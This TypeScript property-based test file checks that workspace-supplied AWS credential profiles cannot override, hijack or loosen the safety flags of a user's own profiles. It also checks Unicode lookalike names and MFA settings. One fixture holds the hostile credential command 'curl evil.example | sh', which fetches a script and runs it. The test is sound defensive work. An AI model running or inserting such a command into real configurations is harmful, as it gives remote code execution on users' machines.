import fc from 'fast-check';
import assert from 'node:assert/strict';
import { recipeOf } from '../../../../src/core/roles/consent/recipe';
import type { Profile } from '../../../../src/core/roles/profile';
import { getProfile, readProfiles, type ProfileSet } from '../../../../src/core/roles/profileSet';
import { foldedName, scopedNames } from '../../../../src/core/roles/scopes';
import { HUB, keys, LAKE, messages, read, source } from './profileSetBed';

const READ_ONLY = ['arn:aws:iam::aws:policy/ReadOnlyAccess'];
const process = { type: 'process', command: 'curl evil.example | sh' };
const from = (name: string) => ({ type: 'profile', name });

function readWith(config: Readonly<Record<string, unknown>>, user: unknown, workspace: unknown): ProfileSet {
  return readProfiles(
    [
      { scope: 'User', value: user },
      { scope: 'Workspace', origin: 'workspace', value: workspace },
    ],
    { mfaMethod: 'auto', config },
  );
}

describe("a workspace's profile of a name that is taken", () => {
  it("leaves the person's as it is and is told apart by its name", () => {
    const set = read({ prod: { source: keys, roleArn: HUB, externalId: 'mine' } }, { prod: { source: process } });
    assert.equal(getProfile(set, 'prod').origin, 'user');
    assert.equal(getProfile(set, 'prod').chain[0]?.externalId, 'mine');
    const other = getProfile(set, 'prod (workspace)');
    assert.deepEqual([other.origin, other.writtenName, other.source], ['workspace', 'prod', process]);
    assert.deepEqual(messages(set), [
      'Profile "prod (workspace)": has the name of a profile in User settings and is shown as "prod (workspace)".',
    ]);
  });

  it("leaves the AWS CLI's alone too, and that of a profile there with errors", () => {
    const config = { dev: { source } };
    const set = readProfiles(
      [{ scope: 'Workspace', origin: 'workspace', value: { dev: { source: process }, odd: { source: process } } }],
      { mfaMethod: 'auto', config, unusable: ['odd'] },
    );
    assert.equal(getProfile(set, 'dev').origin, 'awsConfig');
    assert.deepEqual([...set.profiles.keys()].sort(), ['dev', 'dev (workspace)', 'odd (workspace)']);
  });

  it('is told apart where the names only look the same', () => {
    const looks = ['PROD', 'prod ', 'pr\u200Bod', 'ｐｒｏｄ', 'prod\u3164'];
    const set = read({ prod: { source } }, Object.fromEntries(looks.map((name) => [name, { source: process }])));
    assert.equal(getProfile(set, 'prod').origin, 'user');
    for (const { name, origin } of set.profiles.values()) {
      if (origin === 'workspace') assert.match(name, /\(workspace( \d)?\)$/);
    }
    assert.equal(set.profiles.size, 1 + looks.length);
  });

  it('fills its own name in for ${profile}', () => {
    const set = read({ prod: { source } }, { prod: { source, roleArn: HUB, sessionName: '${profile}' } });
    assert.equal(getProfile(set, 'prod (workspace)').writtenName, 'prod');
  });
});

describe('a reference', () => {
  it("of a person's profile never leads to a workspace's", () => {
    const set = read({ 'my-admin': { source: from('base'), roleArn: LAKE } }, { base: { source: process } });
    assert.equal(set.profiles.has('my-admin'), false);
    assert.deepEqual(messages(set), [
      'Profile "my-admin", source.name: refers to the profile "base", which does not exist or has errors.',
    ]);
  });

  it("of a workspace's profile leads to the workspace's own first, then to the person's", () => {
    const set = read(
      { base: { source: keys }, mine: { source: keys, roleArn: HUB } },
      { base: { source: process }, a: { source: from('base') }, b: { source: from('mine') } },
    );
    assert.deepEqual(getProfile(set, 'a').source, process);
    assert.deepEqual(getProfile(set, 'b').source, keys);
    assert.equal(getProfile(set, 'b').origin, 'workspace');
  });

  it("of a workspace's profile to one of its own with errors does not fall back to the person's", () => {
    const set = read({ base: { source: keys } }, { base: {}, a: { source: from('base') } });
    assert.equal(set.profiles.has('a'), false);
  });

  it('of a workspace to itself is a cycle, told by the names people see', () => {
    const set = read({ p: { source } }, { p: { source: from('p') } });
    assert.match(messages(set).join('\n'), /source\.name: refers to itself: p \(workspace\) → p\./);
  });
});

describe('guard rails', () => {
  const careful = { source: keys, roleArn: HUB, readOnly: true, production: true };

  it('of a profile gone on from cannot be switched off, and say so', () => {
    const set = read({ prod: careful, mine: { source: from('prod'), readOnly: false, production: false } }, undefined);
    const { readOnly, production, chain } = getProfile(set, 'mine');
    assert.deepEqual([readOnly, production, chain.at(-1)?.policyArns], [true, true, READ_ONLY]);
    assert.deepEqual(messages(set), [
      'Profile "mine", readOnly: cannot be switched off: "prod", which it goes on from, is read-only.',
      'Profile "mine", production: cannot be switched off: "prod", which it goes on from, is marked as production.',
    ]);
  });

  it("of a person's profile hold for a workspace's that goes on from it, with the policy on its last hop", () => {
    const set = read({ prod: careful }, { p: { source: from('prod'), roleArn: LAKE, readOnly: false } });
    assert.deepEqual(
      getProfile(set, 'p').chain.map(({ policyArns }) => policyArns),
      [undefined, READ_ONLY],
    );
  });

  it("of a person's profile hold for a workspace's of the same name, and for what goes on from that", () => {
    const set = read(
      { base: { source: keys }, prod: { source: from('hidden') }, hidden: careful },
      {
        Prod: { source: keys, roleArn: LAKE, production: false },
        more: { source: from('Prod'), roleArn: HUB },
      },
    );
    for (const name of ['Prod (workspace)', 'more']) {
      const { readOnly, production, chain } = getProfile(set, name);
      assert.deepEqual([readOnly, production, chain.at(-1)?.policyArns], [true, true, READ_ONLY], name);
    }
    assert.match(
      messages(set).join('\n'),
      /production: cannot be switched off: "prod" in User settings is marked as production/,
    );
  });

  it('hold also where the profile they stand on has errors', () => {
    const set = read({ prod: { ...careful, region: 1 } }, { prod: { source: keys, roleArn: LAKE } });
    assert.deepEqual([getProfile(set, 'prod (workspace)').readOnly], [true]);
  });
});

/** Names that meet across scopes, some of them alike to the eye. */
const name = fc.constantFrom('a', 'b', 'c', 'A', 'a ', 'a (workspace)', 'b (workspace 2)', '__proto__');
const flag = fc.option(fc.boolean(), { nil: undefined });
const profile = fc
  .record({
    source: fc.oneof(
      fc.constantFrom(keys, process, { type: 'sharedConfig', profile: 'a' }, { type: 'sharedConfig', profile: 'b' }),
      name.map(from),
    ),
    roleArn: fc.constantFrom(undefined, HUB, LAKE),
    readOnly: flag,
    production: flag,
    region: fc.constantFrom(undefined, undefined, 'eu-west-1', 1),
    endpoints: fc.constantFrom(undefined, { sts: 'http://localhost:1' }),
  })
  .map((fields): unknown => JSON.parse(JSON.stringify(fields)));
const layer = fc.array(fc.tuple(name, profile), { maxLength: 6 }).map((entries) => Object.fromEntries(entries));
const configProfile = fc.constantFrom(
  { source: { type: 'sharedConfig', profile: 'a' }, roleArn: HUB },
  { source: { type: 'environment' } },
);
const config = fc.dictionary(fc.constantFrom('a', 'b', 'x'), configProfile, { maxKeys: 2 });

describe('any profiles in any scopes', () => {
  it("of the person's own do not depend on the workspace in anything", () => {
    fc.assert(
      fc.property(config, layer, layer, (shared, user, workspace) => {
        const own = ({ profiles }: ProfileSet): [string, Profile][] =>
          [...profiles].filter(([, { origin }]) => origin !== 'workspace');
        const alone = readWith(shared, user, undefined);
        const together = readWith(shared, user, workspace);
        assert.equal(JSON.stringify(own(together)), JSON.stringify([...alone.profiles]));
        const told = ({ problems }: ProfileSet): unknown => problems.filter(({ scope }) => scope !== 'Workspace');
        assert.deepEqual(told(together), alone.problems);
      }),
      { numRuns: 300 },
    );
  });

  it('of the workspace carry their recipe, which asks for consent, and no others do', () => {
    fc.assert(
      fc.property(config, layer, layer, (shared, user, workspace) => {
        for (const each of readWith(shared, user, workspace).profiles.values()) {
          assert.deepEqual(each.workspaceRecipe, each.origin === 'workspace' ? recipeOf(each) : undefined);
        }
      }),
    );
  });

  it('have guard rails that only add up: a flag more anywhere takes none off', () => {
    const place = fc.record({ scope: fc.constantFrom('user', 'workspace'), name });
    fc.assert(
      fc.property(config, layer, layer, place, (shared, user, workspace, changed) => {
        const scopes: Record<string, Record<string, unknown>> = { user, workspace };
        const before = readWith(shared, user, workspace).profiles;
        const entry = scopes[changed.scope]?.[changed.name] as object | undefined;
        fc.pre(entry !== undefined && Object.hasOwn(scopes[changed.scope] ?? {}, changed.name));
        const more = { ...scopes[changed.scope], [changed.name]: { ...entry, readOnly: true, production: true } };
        const after = readWith(
          shared,
          changed.scope === 'user' ? more : user,
          changed.scope === 'workspace' ? more : workspace,
        ).profiles;
        for (const [known, { readOnly, production }] of after) {
          assert.ok(!before.get(known)?.readOnly || readOnly, known);
          assert.ok(!before.get(known)?.production || production, known);
        }
      }),
      { numRuns: 300 },
    );
  });

  it('have those of what they go on from and of the wider scope’s profile of their name', () => {
    fc.assert(
      fc.property(config, layer, layer, (shared, user, workspace) => {
        const { profiles } = readWith(shared, user, workspace);
        for (const { origin, name: known, writtenName = known, readOnly, production } of profiles.values()) {
          const written = (origin === 'workspace' ? workspace : user)[writtenName] as
            { source: { type: string; name?: string } } | undefined;
          const referred = written?.source.type === 'profile' ? (written.source.name ?? '') : undefined;
          const bases = [...profiles.values()].filter(
            (other) =>
              (other.writtenName ?? other.name) === referred &&
              (other.origin === origin || (other.origin === 'user' && !Object.hasOwn(workspace, referred))),
          );
          const namesakes = [...profiles.values()].filter(
            (other) =>
              origin === 'workspace' && other.origin === 'user' && foldedName(other.name) === foldedName(writtenName),
          );
          for (const above of [...bases, ...namesakes]) {
            assert.ok(!above.readOnly || readOnly, known);
            assert.ok(!above.production || production, known);
          }
        }
      }),
      { numRuns: 300 },
    );
  });

  it('have names of their own that lead back to where they are written', () => {
    const names = fc.uniqueArray(fc.oneof(name, fc.string()));
    fc.assert(
      fc.property(names, names, names, (user, workspace, shared) => {
        const known = scopedNames({ user, workspace, config: shared });
        const places = [...known.values()];
        const writtenIn = (scope: string): string[] =>
          places.filter((place) => place.scope === scope).map(({ written }) => written);
        assert.deepEqual(writtenIn('user'), user);
        assert.deepEqual(writtenIn('workspace'), workspace);
        for (const mine of user) assert.deepEqual(known.get(mine), { scope: 'user', written: mine });
        const own = new Set([...user, ...shared].map(foldedName));
        for (const [each, { scope }] of known) if (scope === 'workspace') assert.ok(!own.has(foldedName(each)), each);
      }),
      { numRuns: 300 },
    );
  });
});

describe('how the person’s own profiles take MFA codes', () => {
  const value = {
    mine: {
      source: { type: 'accessKeys', name: 'alice' },
      roleArn: 'arn:aws:iam::111111111111:role/Lake',
      mfaSerial: 'arn:aws:iam::111111111111:mfa/alice',
    },
  };
  const config = { theirs: value.mine };

  it('is not for a workspace to say; of its own it says it', () => {
    const { profiles } = readProfiles(
      [
        { scope: 'User', value },
        { scope: 'Workspace', origin: 'workspace', value: { team: value.mine } },
      ],
      { mfaMethod: 'assumeRole', workspaceMfaMethod: 'sessionToken', config },
    );
    const isSession = (name: string): boolean => profiles.get(name)?.mfaSession !== undefined;
    assert.deepEqual([isSession('mine'), isSession('theirs'), isSession('team')], [false, false, true]);
  });
});
